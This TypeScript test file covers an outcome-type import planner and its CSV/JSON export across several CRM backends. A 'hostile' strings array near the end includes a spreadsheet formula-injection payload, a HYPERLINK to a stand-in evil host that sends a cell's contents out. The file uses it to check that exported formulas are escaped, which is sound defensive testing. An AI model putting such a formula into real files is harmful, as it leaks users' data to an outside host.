import { expect } from '@open-wc/testing';
import * as fieldRules from '../../src/adapters/rules.js';
import {
  CLOSE_RULES,
  GENESYS_RULES,
  MEMORY_RULES,
  OUTCOME_TYPES_API_RULES,
  SAILOR_RULES,
  TASK_RESULT_RULES,
} from '../../src/adapters/rules.js';
import type { BackendRules } from '../../src/model/field-rules.js';
import {
  exportOutcomeTypes,
  IMPORT_COLUMNS,
  keyFromName,
  planImport,
  readImportText,
  type ImportPlan,
  type ImportRow,
} from '../../src/model/import-plan.js';
import { OutcomeTypeSchema } from '../../src/model/schemas.js';
import { SYSTEM_DEFAULT_OUTCOME_TYPES } from '../../src/model/system-defaults.js';
import type { OutcomeType } from '../../src/model/types.js';

const type = (fields: Record<string, unknown>): OutcomeType => OutcomeTypeSchema.parse(fields) as OutcomeType;

const systemTypes = SYSTEM_DEFAULT_OUTCOME_TYPES.map((seed) => type({ ...seed, id: `system-${seed.key}`, isSystem: true }));
const purchased = type({ id: 'ot_100', key: 'purchased', name: 'Purchased', classification: 'positive', ordinal: 10 });
const outcomeTypes = [...systemTypes, purchased];

const memoryTypes = [
  ...outcomeTypes,
  type({
    id: 'ot_200', key: 'call_back', name: 'Call back', kind: 'action', requiresFutureScheduledAt: true,
    destination: { type: 'smart_list', id: 'list-1', name: 'Follow up' }, webhookUrl: 'https://example.com/hook',
    appliesTo: ['calls'], autoAppliedOn: 'voicemail-drop',
  }),
];

const closeTypes = [
  type({ id: 'outcome_03oUxZfoO6e2vHmcz1DiHR', key: 'outcome_03oUxZfoO6e2vHmcz1DiHR', name: 'Demo Booked', description: 'Qualified', appliesTo: ['calls', 'meetings'], createdAt: '2025-07-29T10:30:00.000000+00:00' }),
  type({ id: 'outcome_030Xl5QwKi7tPRLRtnuef3', key: 'outcome_030Xl5QwKi7tPRLRtnuef3', name: 'Left Pre-Recorded Voicemail', appliesTo: ['calls'], autoAppliedOn: 'voicemail-drop' }),
];

const sailorId = '00000000-0000-4000-8000-000000000001';
const sailorTypes = [
  type({ id: sailorId, key: sailorId, name: 'Interested', kind: 'action', ordinal: 10, destination: { type: 'smart_list', id: '00000000-0000-4000-8000-000000000002', name: 'Follow up' }, webhookUrl: 'https://example.com/sailor/outcomes' }),
  type({ id: '00000000-0000-4000-8000-000000000003', key: '00000000-0000-4000-8000-000000000003', name: 'Not Qualified', kind: 'disposition', ordinal: 20, destination: { type: 'none' } }),
];

const taskTypes = [
  type({ id: 'SALE_COMPLETED', key: 'SALE_COMPLETED', name: 'Venta completada' }),
  type({ id: 'RESCHEDULE', key: 'RESCHEDULE', name: 'Reprogramar visita', requiresFutureScheduledAt: true }),
];

/** Which entries the rows became: kind per row, in row order. */
function kinds(plan: ImportPlan): string[] {
  const byRow: [number, string][] = [
    ...plan.create.map((entry) => [entry.row, 'create'] as [number, string]),
    ...plan.update.map((entry) => [entry.row, 'update'] as [number, string]),
    ...plan.unchanged.map((entry) => [entry.row, 'unchanged'] as [number, string]),
    ...plan.invalid.map((entry) => [entry.row, 'invalid'] as [number, string]),
  ];
  return byRow.sort((a, b) => a[0] - b[0]).map(([, kind]) => kind);
}

const codes = (plan: ImportPlan, row: number) =>
  plan.invalid.find((entry) => entry.row === row)?.issues.map(({ field, code }) => `${field}:${code}`) ?? [];

async function rowsOf(text: string): Promise<ImportRow[]> {
  const rows = await readImportText(text);
  if (!Array.isArray(rows)) throw new Error(`unexpected error: ${rows.error}`);
  return rows;
}

describe('keyFromName', () => {
  it('lowercases, turns every run of other characters into one _ and trims it', () => {
    expect(keyFromName('Not Interested')).to.equal('not_interested');
    expect(keyFromName('  Call back -- later!! ')).to.equal('call_back_later');
    expect(keyFromName('Llamada más tarde')).to.equal('llamada_mas_tarde');
    expect(keyFromName('Ünïcödé 2 🎉')).to.equal('unicode_2');
  });
  it('gives "" for a name without a Latin letter or digit', () => {
    expect(keyFromName('مرحبا')).to.equal('');
    expect(keyFromName('🎉')).to.equal('');
  });
});

describe('planImport — every backend\'s rules object (src/adapters/rules.ts) is covered', () => {
  it('tests the six backends', () => {
    const exported = Object.entries(fieldRules)
      .filter(([, value]) => typeof value === 'object' && value !== null && 'fields' in value)
      .map(([name]) => name)
      .sort();
    expect(exported).to.deep.equal(['CLOSE_RULES', 'GENESYS_RULES', 'MEMORY_RULES', 'OUTCOME_TYPES_API_RULES', 'SAILOR_RULES', 'TASK_RESULT_RULES']);
  });
});

describe('planImport — outcome-types API rules', () => {
  const rules = OUTCOME_TYPES_API_RULES;
  it('creates, updates, leaves unchanged and refuses', () => {
    const plan = planImport(outcomeTypes, [
      { key: 'bounced', name: 'Bounced', classification: 'Negative', ordinal: '12' },
      { key: 'purchased', name: 'Bought', ordinal: '11' },
      { key: 'purchased', name: 'Purchased' },
      { key: 'click', name: 'Click' },
      { key: 'x'.repeat(256), name: 'Too long' },
    ], rules);
    expect(kinds(plan)).to.deep.equal(['create', 'update', 'invalid', 'unchanged', 'invalid']);
    expect(plan.create[0]).to.deep.equal({
      row: 1, key: 'bounced',
      value: { key: 'bounced', name: 'Bounced', description: '', classification: 'negative', category: 'response', ordinal: 12, status: 'active' },
    });
    expect(plan.update[0]).to.deep.include({ row: 2, id: 'ot_100', key: 'purchased', changes: { name: 'Bought', ordinal: 11 } });
    expect(plan.update[0]?.current).to.equal(purchased);
    expect(plan.unchanged).to.deep.equal([{ row: 4, id: 'system-click', key: 'click' }]);
    expect(codes(plan, 3)).to.deep.equal(['key:duplicate']);
    expect(plan.invalid[0]?.issues[0]).to.deep.include({ firstRow: 2 });
    expect(codes(plan, 5)).to.deep.equal(['key:tooLong']);
  });

  it('locks key, classification, category and status of system types; name, description and ordinal may change', () => {
    const plan = planImport(outcomeTypes, [
      { key: 'click', classification: 'negative' },
      { key: 'expired', category: 'response' },
      { key: 'dismiss', status: 'paused' },
      { id: 'system-accept', key: 'accepted' },
      { key: 'convert', name: 'Converted', description: 'Bought it', ordinal: '40' },
    ], rules);
    expect(codes(plan, 1)).to.deep.equal(['classification:locked']);
    expect(codes(plan, 2)).to.deep.equal(['category:locked']);
    expect(codes(plan, 3)).to.deep.equal(['status:locked']);
    expect(codes(plan, 4)).to.deep.equal(['key:locked']);
    expect(plan.update).to.have.length(1);
    expect(plan.update[0]?.changes).to.deep.equal({ name: 'Converted', description: 'Bought it', ordinal: 40 });
  });

  it('refuses a key that is missing (and cannot be derived), too long, or negative ordinals', () => {
    const plan = planImport(outcomeTypes, [{ name: 'مرحبا' }, { key: 'neg', name: 'Negative', ordinal: '-1' }, { key: 'nameless' }], rules);
    expect(codes(plan, 1)).to.deep.equal(['key:required']);
    expect(codes(plan, 2)).to.deep.equal(['ordinal:tooSmall']);
    expect(codes(plan, 3)).to.deep.equal(['name:required']);
  });

  it('changes the key of a custom type named by id, unless another type has that key', () => {
    const plan = planImport(outcomeTypes, [{ id: 'ot_100', key: 'bought' }], rules);
    expect(plan.update[0]).to.deep.include({ row: 1, id: 'ot_100', changes: { key: 'bought' } });
    const taken = planImport(outcomeTypes, [{ id: 'ot_100', key: 'click' }], rules);
    expect(taken.invalid[0]?.issues).to.deep.equal([{ field: 'key', code: 'duplicate' }]);
  });

  it('refuses fields the backend does not have when the value would be lost, not when it is the default', () => {
    const plan = planImport(outcomeTypes, [
      { key: 'a', name: 'A', kind: 'action' },
      { key: 'b', name: 'B', kind: 'disposition', requiresFutureScheduledAt: 'no' },
      { key: 'purchased', webhookUrl: 'https://example.com/x' },
    ], rules);
    expect(codes(plan, 1)).to.deep.equal(['kind:unsupported']);
    expect(kinds(plan)).to.deep.equal(['invalid', 'create', 'invalid']);
    expect(plan.create[0]?.value).to.not.have.property('kind');
    expect(codes(plan, 3)).to.deep.equal(['webhookUrl:unsupported']);
  });
});

describe('planImport — memory rules (the whole model)', () => {
  const rules = MEMORY_RULES;
  it('creates, updates, leaves unchanged and refuses', () => {
    const plan = planImport(memoryTypes, [
      { name: 'Call me later', kind: 'ACTION', requiresFutureScheduledAt: 'Yes', appliesTo: 'calls; meetings', webhookUrl: 'https://example.com/a' },
      { key: 'call_back', destination: '{"type":"remove_from_smart_list","all":true}', requiresFutureScheduledAt: '0' },
      { key: 'call_back', name: 'Call back', destination: { name: 'Follow up', id: 'list-1', type: 'smart_list' }, appliesTo: '["calls"]', requiresFutureScheduledAt: '1' },
      { key: 'bad', name: 'Bad', webhookUrl: 'ftp://example.com', kind: 'sometimes', requiresFutureScheduledAt: 'maybe', ordinal: '1.5', destination: '{"type":"smart_list"}', appliesTo: 'phone' },
    ], rules);
    expect(kinds(plan)).to.deep.equal(['create', 'update', 'invalid', 'invalid']);
    expect(plan.create[0]?.value).to.deep.include({
      key: 'call_me_later', kind: 'action', requiresFutureScheduledAt: true, appliesTo: ['calls', 'meetings'],
    });
    expect(plan.update[0]?.changes).to.deep.equal({ destination: { type: 'remove_from_smart_list', all: true }, requiresFutureScheduledAt: false });
    // Row 3 repeats call_back: the same key twice in one file.
    expect(codes(plan, 3)).to.deep.equal(['key:duplicate']);
    expect(codes(plan, 4)).to.have.members([
      'kind:notInList', 'requiresFutureScheduledAt:invalid', 'ordinal:notInteger', 'destination:invalid', 'appliesTo:notInList', 'webhookUrl:badUrl',
    ]);
  });

  it('takes booleans as true/false, yes/no, 1/0 in any case, and key order in a destination does not matter', () => {
    for (const [text, value] of [['TRUE', true], ['no', false], ['1', true], ['False', false], [true, true], [0, false]] as const) {
      const plan = planImport(memoryTypes, [{ key: 'k', name: 'K', requiresFutureScheduledAt: text }], rules);
      expect(plan.create[0]?.value.requiresFutureScheduledAt, String(text)).to.equal(value);
    }
    const same = planImport(memoryTypes, [{ key: 'call_back', destination: '{"name":"Follow up","id":"list-1","type":"smart_list"}' }], rules);
    expect(kinds(same)).to.deep.equal(['unchanged']);
  });

  it('treats a blank cell as not given, never as a change', () => {
    const plan = planImport(memoryTypes, [{ key: 'call_back', name: '', webhookUrl: '  ', destination: null, description: '' }], rules);
    expect(kinds(plan)).to.deep.equal(['unchanged']);
  });

  it('reports each unknown column once, and matches canonical columns case-insensitively', () => {
    const plan = planImport(memoryTypes, [
      { Key: 'purchased', NAME: 'Purchased', colour: 'red', notes: 'x' },
      { key: 'purchased', colour: 'blue' },
    ], rules);
    expect(plan.warnings).to.deep.equal([{ code: 'unknownColumn', column: 'colour' }, { code: 'unknownColumn', column: 'notes' }]);
    expect(codes(plan, 2)).to.deep.equal(['key:duplicate']);
    expect(plan.unchanged).to.have.length(1);
  });

  it('names the first row in every repeat of a key, derived keys included', () => {
    const plan = planImport(memoryTypes, [{ name: 'Foo Bar' }, { key: 'foo_bar', name: 'Other' }, { name: 'foo-bar!' }], rules);
    expect(kinds(plan)).to.deep.equal(['create', 'invalid', 'invalid']);
    expect(plan.invalid.map((entry) => entry.issues[0]?.firstRow)).to.deep.equal([1, 1]);
  });

  it('ignores metadata columns and refuses a row that is not an object', () => {
    const plan = planImport(memoryTypes, [
      { key: 'purchased', isSystem: 'true', createdAt: '2020-01-01T00:00:00Z', extras: '{"a":1}' },
      'nope' as unknown as ImportRow,
    ], rules);
    expect(kinds(plan)).to.deep.equal(['unchanged', 'invalid']);
  });
});

describe('planImport — Close rules', () => {
  const rules = CLOSE_RULES;
  const [demo, voicemail] = closeTypes as [OutcomeType, OutcomeType];
  it('creates, updates, leaves unchanged and refuses', () => {
    const plan = planImport(closeTypes, [
      { name: 'Not Interested', description: 'Declined' },
      { key: demo.key, description: 'Booked a demo' },
      { id: voicemail.id, key: voicemail.key, name: voicemail.name, autoAppliedOn: 'Voicemail-Drop' },
      { name: '' },
    ], rules);
    expect(kinds(plan)).to.deep.equal(['create', 'update', 'unchanged', 'invalid']);
    expect(plan.create[0]).to.deep.equal({ row: 1, key: 'not_interested', value: { name: 'Not Interested', description: 'Declined' } });
    expect(plan.update[0]?.changes).to.deep.equal({ description: 'Booked a demo' });
    expect(codes(plan, 4)).to.deep.equal(['name:required']);
  });

  it('refuses fields Close does not have (classification, ordinal, a changed key) and read-only applies_to', () => {
    const plan = planImport(closeTypes, [
      { name: 'Hot', classification: 'positive' },
      { name: 'Cold', classification: 'neutral', ordinal: '99' },
      { key: demo.key, ordinal: '3' },
      { id: voicemail.id, key: 'voicemail' },
    ], rules);
    expect(kinds(plan)).to.deep.equal(['invalid', 'create', 'invalid', 'invalid']);
    expect(codes(plan, 1)).to.deep.equal(['classification:unsupported']);
    expect(codes(plan, 3)).to.deep.equal(['ordinal:unsupported']);
    expect(codes(plan, 4)).to.deep.equal(['key:unsupported']);
    expect(codes(planImport(closeTypes, [{ key: demo.key, appliesTo: 'calls' }], rules), 1)).to.deep.equal(['appliesTo:readOnly']);
  });

  it('matches a key Close does not know by the key of its name, so a second import creates nothing twice', () => {
    const plan = planImport(closeTypes, [{ key: 'demo_booked', name: 'Demo Booked', description: 'Qualified' }], rules);
    expect(plan.unchanged).to.deep.equal([{ row: 1, id: demo.id, key: demo.key }]);
  });
});

describe('planImport — Genesys rules', () => {
  const rules = GENESYS_RULES;
  const payment = type({ id: '6c1e9b4a-7f8d-4e2a-9b3c-4d6e7f8a9b07', key: '6c1e9b4a-7f8d-4e2a-9b3c-4d6e7f8a9b07', name: 'Payment Taken', description: 'Card or bank payment.' });
  it('creates, updates, leaves unchanged and refuses names and descriptions past their limits and fields codes do not have', () => {
    const plan = planImport([payment], [
      { name: 'Wrong Number' },
      { key: payment.key, description: 'Paid by card' },
      { name: 'x'.repeat(256) },
      { name: 'Long', description: 'd'.repeat(1001) },
      { name: 'Hot', classification: 'positive' },
    ], rules);
    expect(kinds(plan)).to.deep.equal(['create', 'update', 'invalid', 'invalid', 'invalid']);
    expect(codes(plan, 3)).to.deep.equal(['name:tooLong']);
    expect(codes(plan, 4)).to.deep.equal(['description:tooLong']);
    expect(codes(plan, 5)).to.deep.equal(['classification:unsupported']);
  });

  it('matches a code by the key of its name (codes have no key), so a second import creates nothing twice', () => {
    const plan = planImport([payment], [{ key: 'payment_taken', name: 'Payment Taken', description: 'Card or bank payment.' }], rules);
    expect(plan.unchanged).to.deep.equal([{ row: 1, id: payment.id, key: payment.key }]);
  });
});

describe('planImport — Sailor rules', () => {
  const rules = SAILOR_RULES;
  it('creates, updates, leaves unchanged and refuses', () => {
    const plan = planImport(sailorTypes, [
      { name: 'Voicemail', kind: 'disposition', ordinal: '30', destination: '{"type":"none"}' },
      { key: sailorId, name: 'Interested - Follow Up' },
      { key: '00000000-0000-4000-8000-000000000003', name: 'Not Qualified', kind: 'Disposition', ordinal: 20 },
      { name: 'Call me', kind: 'action' },
      { name: 'y'.repeat(121), kind: 'disposition' },
    ], rules);
    expect(kinds(plan)).to.deep.equal(['create', 'update', 'unchanged', 'invalid', 'invalid']);
    expect(plan.create[0]?.value).to.deep.equal({ name: 'Voicemail', kind: 'disposition', ordinal: 30, destination: { type: 'none' } });
    expect(plan.update[0]?.changes).to.deep.equal({ name: 'Interested - Follow Up' });
    expect(codes(plan, 4)).to.deep.equal(['webhookUrl:required']);
    expect(codes(plan, 5)).to.deep.equal(['name:tooLong']);
  });

  it('fills the canonical kind on a create, as the adapter does, and refuses fields Sailor does not have', () => {
    const plan = planImport(sailorTypes, [{ name: 'Plain' }, { name: 'Paused', status: 'paused' }, { key: sailorId, webhookUrl: '' , kind: 'disposition' }], rules);
    expect(plan.create[0]?.value).to.deep.include({ kind: 'disposition' });
    expect(codes(plan, 2)).to.deep.equal(['status:unsupported']);
    expect(plan.update[0]?.changes).to.deep.equal({ kind: 'disposition' });
  });
});

describe('planImport — task-result rules (read only)', () => {
  const rules = TASK_RESULT_RULES;
  it('leaves unchanged what matches and refuses every create and change', () => {
    const plan = planImport(taskTypes, [
      { key: 'SALE_COMPLETED', name: 'Venta completada', requiresFutureScheduledAt: 'false' },
      { key: 'RESCHEDULE', requiresFutureScheduledAt: 'false' },
      { key: 'NO_CONTACT', name: 'Sin contacto' },
      { key: 'sale_completed', name: 'Venta completada' },
    ], rules);
    expect(kinds(plan)).to.deep.equal(['unchanged', 'invalid', 'invalid', 'invalid']);
    expect(codes(plan, 2)).to.deep.equal(['requiresFutureScheduledAt:readOnly']);
    expect(codes(plan, 3)).to.include('key:readOnly');
    // Keys match case-sensitively: the codes are sent verbatim.
    expect(plan.invalid.find((entry) => entry.row === 4)?.id).to.equal(undefined);
  });
});

describe('exportOutcomeTypes', () => {
  it('writes RFC 4180 CSV in canonical order with a header of canonical names and CRLF', () => {
    const csv = exportOutcomeTypes([purchased, ...systemTypes].reverse(), 'csv');
    const lines = csv.split('\r\n');
    expect(lines[0]).to.equal(IMPORT_COLUMNS.join(','));
    expect(lines[1]?.startsWith('system-impression,impression,Impression,')).to.be.true;
    expect(lines[11]?.startsWith('ot_100,purchased,')).to.be.true;
    expect(lines.at(-1)).to.equal('');
    expect(csv.replace(/\r\n/g, '')).to.not.include('\n');
  });

  it('quotes commas, quotes and line breaks, and guards formulas with an apostrophe', () => {
    const csv = exportOutcomeTypes([type({ id: 'h', key: '=1+1', name: 'a, "b"\nc', description: '@SUM(A1)' })], 'csv');
    expect(csv.split('\r\n')[1]).to.equal(`h,'=1+1,"a, ""b""\nc",'@SUM(A1),neutral,response,disposition,99,active,false,false,,,,,,`);
  });

  it('writes JSON as an array of objects with canonical names', () => {
    const json = JSON.parse(exportOutcomeTypes(memoryTypes, 'json')) as Record<string, unknown>[];
    expect(json).to.have.length(memoryTypes.length);
    expect(Object.keys(json.at(-1) ?? {})).to.deep.equal(IMPORT_COLUMNS.filter((column) => column !== 'createdAt' && column !== 'updatedAt'));
    expect(json.at(-1)).to.deep.include({ key: 'call_back', destination: { type: 'smart_list', id: 'list-1', name: 'Follow up' } });
  });
});

const hostile = [
  'He said "hi", then left',
  'line one\nline two\r\nline three',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1 555', '-2', '@cmd', '\tTabbed', '\rReturn', "'=already guarded", "''+twice", "'plain apostrophe",
  'Emoji 🎉👩🏽‍💻', 'RTL مرحبا بالعالم עברית', '  spaced  ', ',', '"',
];

describe('round trips (export → readImportText → planImport)', () => {
  const cases: [string, OutcomeType[], BackendRules][] = [
    ['outcome-types API', outcomeTypes, OUTCOME_TYPES_API_RULES],
    ['memory', memoryTypes, MEMORY_RULES],
    ['Close', closeTypes, CLOSE_RULES],
    ['Sailor', sailorTypes, SAILOR_RULES],
    ['task results', taskTypes, TASK_RESULT_RULES],
  ];
  for (const format of ['csv', 'json'] as const) {
    for (const [name, types, rules] of cases) {
      it(`${format}, ${name}: every row unchanged`, async () => {
        const plan = planImport(types, await rowsOf(exportOutcomeTypes(types, format)), rules);
        expect(plan.invalid).to.deep.equal([]);
        expect(plan.warnings).to.deep.equal([]);
        expect(plan.unchanged).to.have.length(types.length);
      });
    }
  }

  it('keeps hostile strings exactly, through CSV and JSON', async () => {
    const types = hostile.map((text, index) =>
      type({ id: `h${index}`, key: `k${index}${text}`, name: `n ${text}`, description: text, ordinal: index }));
    for (const format of ['csv', 'json'] as const) {
      const text = exportOutcomeTypes(types, format);
      const rows = await rowsOf(text);
      expect(rows).to.have.length(types.length);
      const plan = planImport(types, rows, MEMORY_RULES);
      expect(plan.unchanged, format).to.have.length(types.length);
      const fresh = planImport([], rows, MEMORY_RULES);
      expect(fresh.create.map((entry) => entry.value.description), format).to.deep.equal(hostile);
    }
    const csv = exportOutcomeTypes(types, 'csv');
    expect(csv).to.include(`'=HYPERLINK`);
    expect(csv).to.not.match(/(^|,)[=+\-@]/m);
  });
});

describe('readImportText', () => {
  it('reads CSV with quoted commas, quotes and line breaks, a byte-order mark and blank lines', async () => {
    const rows = await rowsOf('\uFEFFkey,name,description\r\na,"Multi\r\nline","say ""hi"", ok"\r\n\r\nb,B,\r\n');
    expect(rows).to.deep.equal([
      { key: 'a', name: 'Multi\r\nline', description: 'say "hi", ok' },
      { key: 'b', name: 'B', description: '' },
    ]);
  });

  it('detects JSON, and takes the format when told', async () => {
    expect(await readImportText(' \n[{"key":"a","name":"A"}]')).to.deep.equal([{ key: 'a', name: 'A' }]);
    expect(await readImportText('[x]', 'csv')).to.deep.equal([]);
  });

  it('names the line of malformed CSV', async () => {
    expect(await readImportText('key,name\na,"never closed\nb,c\n')).to.deep.equal({ error: 'CSV line 2: a quoted field opened here is never closed' });
    expect(await readImportText('key,name\n"a\nb",ok\nc,"x"y\n')).to.deep.equal({ error: 'CSV line 4: unexpected text after a closing quote' });
    expect(await readImportText('key,name\n"a\nb",ok\nc,d,e\n')).to.deep.equal({ error: 'CSV line 4: 3 fields, but the header has 2' });
    expect(await readImportText('key,name,key\na,b,c\n')).to.have.property('error').that.match(/^CSV line 1: column "key" appears twice/);
  });

  it('names the line of malformed JSON, and never throws', async () => {
    expect(await readImportText('[\n  {"key": "a"},\n  {"key": x}\n]')).to.deep.equal({ error: 'JSON line 3, column 11: unexpected "x"' });
    expect(await readImportText('[\n  {"key": "a",}\n]')).to.deep.equal({ error: 'JSON line 2, column 15: unexpected "}"' });
    expect(await readImportText('[\n{"key": "a"}')).to.deep.equal({ error: 'JSON line 2, column 13: unexpected end of the file' });
    expect(await readImportText('{"key":"a"}')).to.have.property('error').that.match(/expected an array/);
    expect(await readImportText('[{"key":"a"}, 3]')).to.deep.equal({ error: 'JSON item 2: expected an object of field names and values' });
    expect(await readImportText('')).to.deep.equal({ error: 'The file is empty' });
  });
});

describe('planImport at 10,000 rows', () => {
  it('plans every row correctly', async () => {
    const existing = Array.from({ length: 5_000 }, (_, index) =>
      type({ id: `id${index}`, key: `key_${index}`, name: `Name ${index}`, ordinal: index }));
    const types = [...existing, ...Array.from({ length: 5_000 }, (_, index) =>
      type({ id: `new${index}`, key: `new_${index}`, name: `New ${index}`, ordinal: index }))];
    const rows = await rowsOf(exportOutcomeTypes(types, 'csv'));
    expect(rows).to.have.length(10_000);
    (rows[0] as Record<string, unknown>).name = 'Changed';
    const plan = planImport(existing, rows, MEMORY_RULES);
    expect(plan.create).to.have.length(5_000);
    expect(plan.update).to.have.length(1);
    expect(plan.unchanged).to.have.length(4_999);
    expect(plan.invalid).to.have.length(0);
  });
});
